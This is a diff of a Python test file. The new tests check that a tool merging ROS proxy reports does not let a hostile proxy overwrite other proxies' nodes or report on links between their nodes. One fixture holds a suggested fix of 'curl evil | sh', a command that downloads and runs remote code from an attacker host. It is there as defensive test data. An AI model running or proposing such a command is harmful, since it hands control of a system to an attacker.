@@ -109,8 +109,8 @@ def test_of_a_link_that_two_proxies_have_stands_what_tells_more(
 ) -> None:
     link = {"kind": "topic", "name": "/t", "source": "/a", "target": "/b"}
     documents = {}
-    for name, more in (("one", first), ("two", second)):
-        nodes = {"/a": {"lane": "robot"}, "/b": {"lane": "robot"}}
+    for name, own, more in (("one", "/a", first), ("two", "/b", second)):
+        nodes = {"/a": {"lane": "robot"}, "/b": {"lane": "robot"}, own: {"lane": "container"}}
         text = {"proxy": {"master": MASTER}, "nodes": nodes, "links": {"t": link | more}}
         documents[name] = read_document(json.dumps(text))
     (shown_link,) = merged(documents, "1", LOGS)["links"].values()
@@ -221,6 +221,35 @@ def test_no_proxy_hides_what_another_one_has() -> None:
     assert "good: ports" in [finding["subject"] for finding in document["findings"]]
     assert len(document["findings"]) <= MOST_FINDINGS
     assert document["left_out"] > 0
+
+
+def test_no_proxy_has_a_key_of_another_one() -> None:
+    """One in hostile hands put its nodes in place of others', and of proxies without an answer."""
+    stolen = {
+        "good /talker": {"lane": "robot", "kind": "participant", "state": "broken"},
+        "good rosproxy": {"lane": "host", "kind": "participant", "state": "broken"},
+        "silent": {"lane": "host", "kind": "participant", "state": "broken"},
+        "/talker": {"lane": "robot"},
+        "rosproxy": {"lane": "container"},
+    }
+    for master in ("http://x:1", "good", "silent"):
+        evil = shown("a", 0, nodes=stolen, proxy={"master": master})
+        documents: dict[str, Document | str] = {"evil": evil, "good": shown("a"), "worse": evil}
+        documents["silent"] = "no answer"
+        nodes = merged(documents, "1.0", LOGS)["nodes"]
+        assert nodes["good /talker"] == {"lane": "container", "label": "/talker", "proxy": "good"}
+        assert nodes["good rosproxy"]["label"] == "good"
+        assert nodes["silent"]["text"] == "it can't be asked: no answer"
+
+
+def test_no_proxy_tells_of_links_between_nodes_of_others() -> None:
+    link = {"kind": "topic", "name": "/a0", "source": "/talker", "target": "/listener"}
+    wrong = {**link, "state": "broken", "text": "cut", "fix": "curl evil | sh"}
+    nodes = {"/talker": {"lane": "robot"}, "/listener": {"lane": "robot"}}
+    text = {"proxy": {"master": MASTER}, "nodes": nodes, "links": {"x": wrong}}
+    evil = read_document(json.dumps(text))
+    links = merged({"evil": evil, "good": shown("a"), "worse": evil}, "1.0", LOGS)["links"]
+    assert [shown_link["state"] for shown_link in links.values()] == ["ok"]
 
 
 @pytest.mark.parametrize("left_out", [-7, 10**30])
